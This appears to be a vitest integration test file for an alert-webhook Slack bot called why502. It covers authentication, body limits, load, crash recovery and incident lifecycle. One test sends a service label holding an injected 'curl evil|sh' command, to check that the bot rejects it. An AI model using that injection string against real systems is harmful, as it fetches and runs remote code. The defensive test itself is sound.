import { rmSync } from "node:fs";
import { request as httpRequestRaw } from "node:http";
import Database from "better-sqlite3";
import { afterEach, describe, expect, it } from "vitest";
import { waitUntil } from "../lab/wait.js";
import { runMain } from "../support/run-main.js";
import { type StandIn, startSlackStandIn } from "../support/slack/standin.js";
import { alertmanagerBody, hmacHeaders } from "./alert-payloads.js";
import { type BotDir, botConfig } from "./bot-config.js";
import {
  httpRequest,
  killServe,
  mention,
  press,
  type Serve,
  slash,
  startServe,
  stopServe,
  waitForLog,
} from "./serve-process.js";
import { silentHost } from "./silent-host.js";

const TOKEN = "am-token-0123456789";
const SECRET = "generic-secret-0123456789";
const ENV = { WHY502_AM_TOKEN: TOKEN, WHY502_HOOK_SECRET: SECRET, WHY502_GRAFANA_PASSWORD: "grafana-pw" };
const CHANNEL = "C0CHECKOUT";

let standin: StandIn | undefined;
const bots: Serve[] = [];
let dir: BotDir | undefined;
let silent: Awaited<ReturnType<typeof silentHost>> | undefined;
afterEach(async () => {
  await silent?.close();
  silent = undefined;
  for (const b of bots.splice(0)) await stopServe(b);
  await standin?.close();
  standin = undefined;
  if (dir) rmSync(dir.dir, { recursive: true, force: true });
  dir = undefined;
});

async function setup(alerts: Record<string, unknown> = {}, gatewayPort?: number) {
  standin = await startSlackStandIn({
    channels: [
      { id: CHANNEL, name: "checkout-oncall", members: ["U0ANA"] },
      { id: "C0OPS", name: "ops", members: [] },
    ],
  });
  dir = botConfig({
    apiUrl: standin.url,
    extra: {
      alerts: {
        fallback_channel: "C0OPS",
        max_body: 64 * 1024,
        sources: {
          alertmanager: { bearer_env: "WHY502_AM_TOKEN" },
          grafana: { basic: { user: "grafana", password_env: "WHY502_GRAFANA_PASSWORD" } },
          generic: {
            hmac: {
              secret_env: "WHY502_HOOK_SECRET",
              header: "X-Why502-Signature",
              timestamp_header: "X-Why502-Timestamp",
            },
          },
        },
        ...alerts,
      },
    },
    slackChannel: CHANNEL,
    gatewayPort,
  });
  const bot = await serve(dir);
  return { standin, dir, bot };
}

async function serve(d: BotDir): Promise<Serve> {
  const b = await startServe({ config: d.config, mode: "http", env: ENV });
  bots.push(b);
  return b;
}

const am = (b: Serve, body: string, token = TOKEN) =>
  httpRequest(b.port, "/hooks/alertmanager", {
    method: "POST",
    body,
    headers: { "content-type": "application/json", authorization: `Bearer ${token}` },
  });

/**
 * POST `bytes` of a JSON-looking body in 64 KiB chunks without a Content-Length, as a sender streaming a big
 * body does, and read the answer while still writing.
 */
function chunkedPost(port: number, path: string, token: string, bytes: number) {
  return new Promise<{ status: number; error: string }>((resolve, reject) => {
    const req = httpRequestRaw({
      agent: false,
      host: "127.0.0.1",
      port,
      path,
      method: "POST",
      headers: { "content-type": "application/json", authorization: `Bearer ${token}` },
    });
    req.on("response", (res) => {
      let text = "";
      res.setEncoding("utf8");
      res.on("data", (c: string) => {
        text += c;
      });
      res.on("end", () => resolve({ status: res.statusCode ?? 0, error: JSON.parse(text).error }));
    });
    req.on("error", reject);
    const chunk = Buffer.alloc(64 << 10, 0x20);
    let sent = 0;
    const write = (): void => {
      while (sent < bytes) {
        sent += chunk.length;
        if (!req.write(chunk)) {
          req.once("drain", write);
          return;
        }
      }
      req.end();
    };
    req.write("{");
    write();
  });
}

function rows(db: string, sql: string): Record<string, unknown>[] {
  const d = new Database(db, { readonly: true, timeout: 2000 });
  try {
    return d.prepare(sql).all() as Record<string, unknown>[];
  } finally {
    d.close();
  }
}

describe("alert webhooks: what a sender reads back", () => {
  it("wrong token, bad signature, stale timestamp, malformed JSON, oversized, wrong shape, unknown service, shell in a label, resolved first", async () => {
    const { bot, dir, standin } = await setup();
    const firing = alertmanagerBody({ status: "firing", service: "checkout" });
    const wrong = await am(bot, firing, "nope");
    expect([wrong.status, JSON.parse(wrong.body).error]).toEqual([401, "missing or wrong bearer token"]);
    const none = await httpRequest(bot.port, "/hooks/alertmanager", { method: "POST", body: firing });
    expect(none.status).toBe(401);

    const generic = JSON.stringify({ service: "checkout", status: "firing", key: "cron-check" });
    const badSig = await httpRequest(bot.port, "/hooks/generic", {
      method: "POST",
      body: generic,
      headers: { ...hmacHeaders("wrong", generic) },
    });
    expect([badSig.status, JSON.parse(badSig.body).error]).toEqual([
      401,
      "missing or wrong X-Why502-Signature signature",
    ]);
    const stale = await httpRequest(bot.port, "/hooks/generic", {
      method: "POST",
      body: generic,
      headers: hmacHeaders(SECRET, generic, Math.floor(Date.now() / 1000) - 600),
    });
    expect([stale.status, JSON.parse(stale.body).error]).toEqual([
      401,
      "missing or stale X-Why502-Timestamp (unix seconds within 300 s)",
    ]);

    const malformed = await am(bot, "{not json");
    expect([malformed.status, JSON.parse(malformed.body).error]).toEqual([
      400,
      "the body is not JSON: send the alert as a JSON object",
    ]);
    const big = await am(bot, JSON.stringify({ pad: "x".repeat(70 * 1024) }));
    expect(big.status).toBe(413);
    expect(JSON.parse(big.body).error).toMatch(/limit of 65536 bytes|limit is 65536/);
    // Without a length up front (chunked), the sender still writing gets the 413, not a reset.
    const chunked = await chunkedPost(bot.port, "/hooks/alertmanager", TOKEN, 2 << 20);
    expect(chunked).toEqual({ status: 413, error: "the body is over the limit of 65536 bytes" });
    const shape = await am(bot, JSON.stringify({ version: "4", alerts: "no" }));
    expect(shape.status).toBe(422);
    expect(JSON.parse(shape.body)).toMatchObject({
      error:
        "the body is not an alertmanager payload: fix the fields named in detail (Alertmanager's webhook_config sends version 4 with an alerts list)",
      detail: expect.any(Array),
    });

    const unknown = await am(bot, alertmanagerBody({ status: "firing", service: "billing" }));
    expect(unknown.status).toBe(422);
    expect(JSON.parse(unknown.body).error).toMatch(
      /^no service in the inventory matches these alerts' labels \(service, upstream, job\)/,
    );
    const shell = await am(
      bot,
      alertmanagerBody({ status: "firing", service: "checkout; curl evil|sh", fingerprint: "ffff" }),
    );
    expect(shell.status).toBe(422);
    // The fallback channel hears of each unknown service once an hour, not once per delivery.
    await am(bot, alertmanagerBody({ status: "firing", service: "billing" }));
    const notes = await standin.waitFor(
      () => standin.messages("C0OPS").length >= 2 && standin.messages("C0OPS"),
      10_000,
    );
    expect(notes.map((m) => m.text)).toEqual([
      expect.stringMatching(/"billing", which is not a service/),
      expect.stringMatching(/"checkout; curl evil\|sh"/),
    ]);

    const resolvedFirst = await am(
      bot,
      alertmanagerBody({ status: "resolved", service: "checkout", fingerprint: "abcd" }),
    );
    expect(resolvedFirst.status).toBe(200);
    expect(JSON.parse(resolvedFirst.body).alerts[0].outcome).toBe("ignored");

    const off = await httpRequest(bot.port, "/hooks/nagios", { method: "POST", body: "{}" });
    expect(off.status).toBe(404);
    // Nothing reached a host: no incident, no run; every delivery that got past auth is recorded.
    expect(rows(dir.db, "SELECT id FROM incidents")).toEqual([]);
    expect(rows(dir.db, "SELECT id FROM runs")).toEqual([]);
    expect(rows(dir.db, "SELECT outcome FROM alert_events ORDER BY seq").map((r) => r.outcome)).toEqual([
      "unknown_service",
      "unknown_service",
      "unknown_service",
      "ignored: a resolution with no open incident",
    ]);
    expect(standin.messages(CHANNEL)).toHaveLength(0);
    const metrics = (await httpRequest(bot.port, "/metrics")).body;
    expect(metrics).toMatch(/why502_webhooks_total\{source="alertmanager",status="401"\} 2/);
    expect(metrics).toMatch(/why502_webhooks_total\{source="generic",status="401"\} 2/);
    expect(metrics).toMatch(/why502_webhooks_total\{source="alertmanager",status="413"\} 2/);
  });

  // As fast as 8 senders can go: at least the load of 1,000 firings within 10 s. The intake's speed is measured by
  // `npm run bench -- --only alerts`; a timed assertion here fails under CPU load with nothing wrong.
  it("1,000 firings from several senders as fast as they come: one incident, one thread, one diagnosis, all answered 2xx and recorded; resolved closes it", async () => {
    const { bot, dir, standin } = await setup();
    const senders = 8;
    const statuses: number[] = [];
    await Promise.all(
      Array.from({ length: senders }, async (_, s) => {
        for (let i = 0; i < 1000 / senders; i++) {
          // Several gateways fire the same alert: other fingerprints, the same service.
          const body = alertmanagerBody({
            status: "firing",
            service: "checkout",
            fingerprint: `fp-gw${s % 3}`,
            instance: `gw-${s % 3}`,
          });
          statuses.push((await am(bot, body)).status);
        }
      }),
    );
    expect(statuses).toHaveLength(1000);
    expect(statuses.every((s) => s === 200)).toBe(true);
    expect(rows(dir.db, "SELECT count(*) AS n FROM alert_events")[0]?.n).toBe(1000);
    expect(rows(dir.db, "SELECT count(*) AS n FROM incidents")[0]?.n).toBe(1);
    const parent = await standin.waitFor(() => standin.messages(CHANNEL)[0], 10_000);
    expect(parent.edits[0]?.text ?? parent.text).toMatch(/Investigating 502s on checkout/);
    await standin.waitFor(() => standin.replies(CHANNEL, parent.ts)[0], 20_000);
    expect(rows(dir.db, "SELECT count(*) AS n FROM runs")[0]?.n).toBe(1);

    for (const s of [0, 1, 2]) {
      const r = await am(
        bot,
        alertmanagerBody({
          status: "resolved",
          service: "checkout",
          fingerprint: `fp-gw${s}`,
          instance: `gw-${s}`,
        }),
      );
      expect(r.status).toBe(200);
    }
    const closed = await standin.waitFor(() => {
      const p = standin.messages(CHANNEL)[0];
      return p && /Resolved after/.test(p.text) && p;
    }, 20_000);
    expect(closed.text).toMatch(/^checkout: Resolved after /);
    // The post-incident summary in the thread, with its chart and postmortem draft uploaded.
    await standin.waitFor(
      () => standin.replies(CHANNEL, parent.ts).find((m) => /^Resolved after/.test(m.text)),
      20_000,
    );
    const files = await standin.waitFor(
      () => standin.replies(CHANNEL, parent.ts).find((m) => m.files.length > 0),
      20_000,
    );
    expect(files.files.some((f) => f.name.endsWith(".postmortem.md"))).toBe(true);
    expect(standin.messages(CHANNEL)).toHaveLength(1);
    expect(rows(dir.db, "SELECT state, closed_reason FROM incidents")).toEqual([
      { state: "resolved", closed_reason: "resolved" },
    ]);

    // The CLI reads the same store: the incident listed, its summary shown, unknown ids said so.
    const list = await runMain(["incidents", "--config", dir.config]);
    expect(list.code).toBe(0);
    const id = String(rows(dir.db, "SELECT id FROM incidents")[0]?.id);
    expect(list.stdout).toMatch(new RegExp(`^${id}\\s+checkout\\s+resolved\\s`, "m"));
    const text = await runMain(["summary", id.slice(0, 8), "--config", dir.config]);
    expect([text.code, text.stderr]).toEqual([0, ""]);
    expect(text.stdout).toMatch(/Resolved after/);
    const md = await runMain(["summary", id, "--config", dir.config, "--format", "markdown"]);
    expect(md.stdout).toMatch(/^## Timeline$/m);
    const unknown = await runMain(["summary", "nope-nope", "--config", dir.config]);
    expect([unknown.code, unknown.stderr]).toEqual([
      2,
      `why502: No incident "nope-nope" in ${dir.db}: \`why502 incidents\` lists them.\n`,
    ]);
  });
});

describe("each source opens the incident it names", () => {
  it("Grafana with basic auth and the generic hook with an HMAC signature", async () => {
    const { bot, dir } = await setup();
    const grafana = JSON.stringify({
      receiver: "why502",
      status: "firing",
      orgId: 1,
      alerts: [
        {
          status: "firing",
          labels: { alertname: "Search 502s", upstream: "search" },
          annotations: { summary: "search answers 502" },
          startsAt: "2026-12-01T09:51:03.157076+02:00",
          endsAt: "0001-01-01T00:00:00Z",
          generatorURL: "http://127.0.0.1:3000/alerting/1afz29v7z/edit",
          fingerprint: "c6eadffa33fcdf37",
          silenceURL: "",
          dashboardURL: "",
          panelURL: "",
          values: { B: 44.2, C: 1 },
          valueString: "[ var='B' labels={} value=44.2 ]",
        },
      ],
      groupLabels: {},
      commonLabels: {},
      commonAnnotations: {},
      externalURL: "http://127.0.0.1:3000/",
      version: "1",
      groupKey: "{}:{}",
      truncatedAlerts: 0,
      title: "[FIRING:1] Search 502s",
      state: "alerting",
      message: "search answers 502",
    });
    const basic = `Basic ${Buffer.from("grafana:grafana-pw").toString("base64")}`;
    const g = await httpRequest(bot.port, "/hooks/grafana", {
      method: "POST",
      body: grafana,
      headers: { "content-type": "application/json", authorization: basic },
    });
    expect([g.status, JSON.parse(g.body).alerts[0]]).toEqual([
      200,
      expect.objectContaining({ service: "search", outcome: "open" }),
    ]);
    const wrongPw = await httpRequest(bot.port, "/hooks/grafana", {
      method: "POST",
      body: grafana,
      headers: { authorization: `Basic ${Buffer.from("grafana:nope").toString("base64")}` },
    });
    expect(wrongPw.status).toBe(401);
    const generic = JSON.stringify({
      service: "checkout",
      status: "firing",
      key: "synthetic-probe",
      summary: "probe sees 502",
    });
    const h = await httpRequest(bot.port, "/hooks/generic", {
      method: "POST",
      body: generic,
      headers: hmacHeaders(SECRET, generic),
    });
    expect([h.status, JSON.parse(h.body).alerts[0]?.outcome]).toEqual([200, "open"]);
    expect(rows(dir.db, "SELECT service, source FROM incidents ORDER BY service")).toEqual([
      { service: "checkout", source: "generic" },
      { service: "search", source: "grafana" },
    ]);
  });
});

describe("incidents over time", () => {
  it("kill -9 during the diagnosis, then a restart: the incident, its thread and its timeline are intact, the diagnosis is posted once", async () => {
    silent = await silentHost();
    const { bot, dir, standin } = await setup({}, silent.port);
    expect((await am(bot, alertmanagerBody({ status: "firing", service: "checkout" }))).status).toBe(200);
    const parent = await standin.waitFor(() => standin.messages(CHANNEL)[0], 10_000);
    const s = silent;
    await standin.waitFor(() => s.connections() > 0, 10_000);
    await killServe(bot);
    expect(rows(dir.db, "SELECT state FROM runs")).toEqual([{ state: "running" }]);
    const again = await serve(dir);
    await standin.waitFor(() => standin.replies(CHANNEL, parent.ts)[0], 30_000);
    await standin.waitFor(() => {
      const p = standin.messages(CHANNEL)[0];
      return p && /details in the thread/.test(JSON.stringify(p.edits.at(-1) ?? {})) && p;
    }, 10_000);
    expect(standin.messages(CHANNEL)).toHaveLength(1);
    expect(standin.replies(CHANNEL, parent.ts)).toHaveLength(1);
    // The reply is owed before the run is marked done: the store says done a moment later.
    await waitUntil(
      () => (rows(dir.db, "SELECT 1 FROM runs WHERE state = 'done'").length === 1 ? true : undefined),
      {
        what: "the run marked done",
      },
    );
    expect(rows(dir.db, "SELECT state, attempts FROM runs")).toEqual([{ state: "done", attempts: 2 }]);
    expect(rows(dir.db, "SELECT outcome FROM alert_events").map((r) => r.outcome)).toEqual(["opened"]);
    // The same alert, still firing, joins the incident that survived the restart.
    await am(again, alertmanagerBody({ status: "firing", service: "checkout" }));
    expect(rows(dir.db, "SELECT count(*) AS n FROM incidents")[0]?.n).toBe(1);
    expect(rows(dir.db, "SELECT outcome FROM alert_events ORDER BY seq").map((r) => r.outcome)).toEqual([
      "opened",
      "joined",
    ]);
  });

  it("after the cooldown a new firing diagnoses again, quietly when nothing changed; /why502 posts into the incident's thread", async () => {
    const { bot, dir, standin } = await setup({ cooldown: "1s" });
    await am(bot, alertmanagerBody({ status: "firing", service: "checkout" }));
    const parent = await standin.waitFor(() => standin.messages(CHANNEL)[0], 10_000);
    await standin.waitFor(() => standin.replies(CHANNEL, parent.ts)[0], 20_000);
    await waitUntil(
      () => (rows(dir.db, "SELECT 1 FROM runs WHERE state = 'done'").length === 1 ? true : undefined),
      {
        what: "the first run marked done",
      },
    );
    const lastRun = Number(rows(dir.db, "SELECT last_run_at AS t FROM incidents")[0]?.t);
    await new Promise<void>((r) => setTimeout(r, Math.max(0, lastRun + 1100 - Date.now())));
    await am(bot, alertmanagerBody({ status: "firing", service: "checkout" }));
    // Nothing reaches Slack when nothing changed: wait for the bot's own account of the second run.
    const incidentId = String(rows(dir.db, "SELECT id FROM incidents")[0]?.id);
    await waitForLog(
      bot,
      (l) => l.msg === "verdicts unchanged: nothing posted" && l.run_id === `${incidentId}.run2`,
    );
    await waitForLog(bot, (l) => l.msg === "diagnosis" && l.run_id === `${incidentId}.run2`);
    expect(rows(dir.db, "SELECT state FROM runs ORDER BY created_at").map((r) => r.state)).toEqual([
      "done",
      "done",
    ]);
    expect(standin.replies(CHANNEL, parent.ts)).toHaveLength(1);

    // A person asking about the service during the incident gets the incident's thread.
    await slash(bot, standin, "checkout", { channel: CHANNEL });
    await standin
      .waitFor(() => standin.replies(CHANNEL, parent.ts)[1], 20_000)
      .catch((e) => {
        console.log(bot.stderr().slice(-4000));
        throw e;
      });
    expect(standin.messages(CHANNEL)).toHaveLength(1);
    expect(rows(dir.db, "SELECT count(*) AS n FROM runs WHERE incident_id IS NOT NULL")[0]?.n).toBe(3);
  });

  it("Resolve in the thread closes the incident by hand, and its summary follows; @why502 summary posts it again", async () => {
    const { bot, dir, standin } = await setup();
    await am(bot, alertmanagerBody({ status: "firing", service: "checkout" }));
    const parent = await standin.waitFor(() => standin.messages(CHANNEL)[0], 10_000);
    const reply = await standin.waitFor(() => standin.replies(CHANNEL, parent.ts)[0], 20_000);
    const runId = /why502_actions_([^"]+)"/.exec(JSON.stringify(reply.blocks))?.[1] ?? "";
    await press(bot, standin, "why502_resolve", runId, reply.ts);
    const summary = await standin.waitFor(
      () => standin.replies(CHANNEL, parent.ts).find((m) => /^Resolved by hand after/.test(m.text)),
      20_000,
    );
    expect(JSON.stringify(summary.blocks)).toMatch(/resolve/i);
    expect(rows(dir.db, "SELECT state, closed_reason FROM incidents")).toEqual([
      { state: "resolved", closed_reason: "resolved by hand" },
    ]);
    await mention(bot, standin, "summary", parent.ts);
    await standin.waitFor(
      () => standin.replies(CHANNEL, parent.ts).filter((m) => /^Resolved by hand after/.test(m.text))[1],
      20_000,
    );
  });

  it("an incident whose alert stops with no resolution is closed and says so", async () => {
    const { bot, dir, standin } = await setup({ quiet_close: "2s" });
    await am(bot, alertmanagerBody({ status: "firing", service: "checkout" }));
    const parent = await standin.waitFor(() => standin.messages(CHANNEL)[0], 10_000);
    const id = String(rows(dir.db, "SELECT id FROM incidents")[0]?.id);
    const open = await runMain(["summary", id, "--config", dir.config]);
    expect([open.code, open.stderr]).toEqual([
      2,
      `why502: Incident ${id} (checkout) is still open: its summary is made when it closes (the alert resolves, or Resolve in its thread).\n`,
    ]);
    const note = await standin.waitFor(
      () => standin.replies(CHANNEL, parent.ts).find((m) => /no resolution received/.test(m.text)),
      20_000,
    );
    expect(note.text).toMatch(/^Closed after .*, no resolution received/);
    expect(rows(dir.db, "SELECT state, closed_reason FROM incidents")).toEqual([
      { state: "quiet", closed_reason: "no resolution received" },
    ]);
    // A later resolution of that alert finds no open incident, and posts nothing.
    const posts = standin.calls.filter((c) => c.method === "chat.postMessage").length;
    const late = await am(bot, alertmanagerBody({ status: "resolved", service: "checkout" }));
    expect(JSON.parse(late.body).alerts[0].outcome).toBe("ignored");
    expect(standin.calls.filter((c) => c.method === "chat.postMessage").length).toBe(posts);
  });
});
